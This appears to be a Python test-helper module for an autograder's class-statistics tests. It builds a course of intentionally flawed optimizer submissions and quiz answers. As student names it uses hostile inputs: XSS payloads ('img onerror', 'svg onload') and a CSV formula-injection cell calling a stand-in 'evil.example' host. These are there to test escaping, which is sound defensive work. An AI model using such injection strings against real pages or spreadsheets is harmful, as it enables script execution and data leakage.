"""Shared helpers of the class-statistics tests (tests/test_stats_*.py); holds no tests.

``graded_course`` is one course per test session (built once, under a lock, like
test_batch.py's ``released``): submissions with known mistakes, really graded by the engine,
their results.json under ``autograded/<student>/<ID>/``. ``results_json`` makes a results.json
by hand, for the pure computation and the hostile files.
"""

from __future__ import annotations

import ast
import json
import shutil
from pathlib import Path

from support import built_once
from support.feedback import BUNDLED_COURSE, REPO, autograde
from support.grading import OPTIMIZERS_SOURCE, answers_module, optimizers_with

HOSTILE_HTML = "<img src=x onerror=alert(1)>"
HOSTILE_FORMULA = '=HYPERLINK("evil.example?leak","x")'  # no "/": it is also a folder name
MISSING_FLOOR = ("the floor is missing: decay by floor(epoch_num / time_interval) so the rate "
                 "stays constant within an interval")


def _sample_function(name: str) -> str:
    """The source of ``name`` in the bundled sample with classic mistakes."""
    text = (REPO / "autograder" / "samples" / "optimization_mistakes.py").read_text()
    node = next(node for node in ast.parse(text).body
                if isinstance(node, ast.FunctionDef) and node.name == name)
    return ast.get_source_segment(text, node) + "\n"


#: epsilon inside Adam's square root, as the bundled sample writes it
ADAM_EPS_INSIDE = optimizers_with(_sample_function("update_parameters_with_adam"))
NO_FLOOR = optimizers_with('''
def schedule_lr_decay(learning_rate0, epoch_num, decay_rate, time_interval=1000):
    return learning_rate0 / (1 + decay_rate * (epoch_num / time_interval))
''')
#: Wrong in a way the catalogue does not name.
ODD_UPDATE_LR = optimizers_with('''
def update_lr(learning_rate0, epoch_num, decay_rate):
    return learning_rate0 / (3 + decay_rate * epoch_num)
''')
STUB_UPDATE_LR = optimizers_with('''
def update_lr(learning_rate0, epoch_num, decay_rate):
    raise NotImplementedError()
''')

#: student -> (source, the scores it must get that are not full marks)
OPTIMIZATION = {
    "ada": (OPTIMIZERS_SOURCE, {}),
    "eps-1": (ADAM_EPS_INSIDE, {"update_parameters_with_adam": 2.25}),
    "eps-2": (ADAM_EPS_INSIDE, {"update_parameters_with_adam": 2.25}),
    "eps-3": (ADAM_EPS_INSIDE, {"update_parameters_with_adam": 2.25}),
    HOSTILE_HTML: (NO_FLOOR, {"schedule_lr_decay": 0.5}),
    HOSTILE_FORMULA: (NO_FLOOR, {"schedule_lr_decay": 0.5}),
    "odd": (ODD_UPDATE_LR, {"update_lr": 0.0}),
    "stub": (STUB_UPDATE_LR, {"update_lr": 0.0}),
}
#: student -> answers of optimization_quiz (keys: A, B, E, B, [A, D])
QUIZ = {
    "q1": {"most_variance": "A", "different_influence": ["A", "D"]},  # 6 of 6
    "q2": {"most_variance": "B", "different_influence": ["A", "D"]},  # 5
    "q3": {"most_variance": "C", "not_true_gradient_descent": "A",
           "different_influence": ["A", "D"]},  # 4
    # 4: 1 right, 2 wrong -> 0
    "q4": {"most_variance": "A", "different_influence": ["A", "B", "C"]},
}
QUIZ_RIGHT = {"not_true_gradient_descent": "B", "always_global_minimum": "E",
              "least_successful_ravine": "B"}
#: student -> answers of initialization_quiz (two free-response items)
FREE = {
    "f1": {"constant_weight_variance": "All units compute the same thing.",
           "relu_assumption": "Half."},
    "f2": {"constant_weight_variance": ""},  # an empty answer is recorded; a missing one is not
}
#: A results.json that is not JSON: this student is skipped, the others are counted.
BROKEN = "<svg onload=alert('broken')>"  # no "/": it is a folder name


def formula(cell: str) -> bool:
    """Whether a spreadsheet would read this CSV cell as a formula (a number is a number)."""
    try:
        float(cell)
        return False
    except ValueError:
        return cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r"))


def _build(course: Path) -> None:
    shutil.copytree(BUNDLED_COURSE / "source", course / "source")
    shutil.copytree(REPO / "quizzes", course.parent / "quizzes")
    for student, (source, _) in OPTIMIZATION.items():
        autograde(course, student, "optimization", source)
    for student, answers in QUIZ.items():
        autograde(course, student, "optimization_quiz", answers_module({**QUIZ_RIGHT, **answers}))
    for student, answers in FREE.items():
        autograde(course, student, "initialization_quiz", answers_module(answers))
    broken = course / "autograded" / BROKEN / "optimization" / "results.json"
    broken.parent.mkdir(parents=True)
    broken.write_text('{"tests": [')


def graded_course(tmp_path_factory) -> Path:
    """The course root (built once per session, shared by xdist workers); never modify it."""
    built = built_once(tmp_path_factory, "stats-course", lambda root: _build(root / "course"))
    return built / "course"


def copy_course(course: Path, destination: Path) -> Path:
    """A copy of the graded course (and quizzes/ beside it) that a test may change."""
    shutil.copytree(course.parent / "quizzes", destination / "quizzes")
    shutil.copytree(course, destination / "course", symlinks=True)
    return destination / "course"


def results_json(tests: list[dict], assignment: str = "optimization") -> dict:
    """A results.json in this grader's shape; each test ``{"name", "score", ...}``."""
    return {
        "score": sum(test.get("score", 0) for test in tests
                     if isinstance(test.get("score"), (int, float))),
        "output": "",
        "tests": [{"max_score": 1.0, "output": "", "visibility": "visible", **test}
                  for test in tests],
        "extra_data": {"assignment": assignment},
    }


def write_results(course: Path, student: str, results: dict | str | bytes,
                  assignment: str = "optimization") -> Path:
    path = course / "autograded" / student / assignment / "results.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(results, bytes):
        path.write_bytes(results)
    else:
        path.write_text(results if isinstance(results, str) else json.dumps(results))
    return path
